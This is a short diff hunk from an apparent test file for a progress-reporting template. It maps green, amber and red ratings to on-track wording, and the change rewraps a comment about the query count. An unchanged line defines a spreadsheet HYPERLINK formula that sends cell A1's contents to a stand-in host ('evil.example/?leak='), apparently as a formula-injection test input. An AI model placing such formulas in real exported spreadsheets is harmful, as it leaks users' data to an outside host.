@@ -45,7 +45,9 @@ NO_DATA = "Data not available to assess progress"
 # The pack's rating against target, and the template's words it must give: the test states the
 # rule itself rather than asking the code under test.
 WORDS_FOR_RATING = {"green": ON_TRACK, "amber": NOT_ON_TRACK, "red": NOT_ON_TRACK, None: NO_DATA}
-QUERIES = 31  # the pack's metrics (with its headlines) and finance, the conditions, the timetable, the return
+# Reading the demo's return: the pack's metrics (with its headlines) and finance, the
+# conditions, the timetable, the return.
+QUERIES = 31
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
 
 
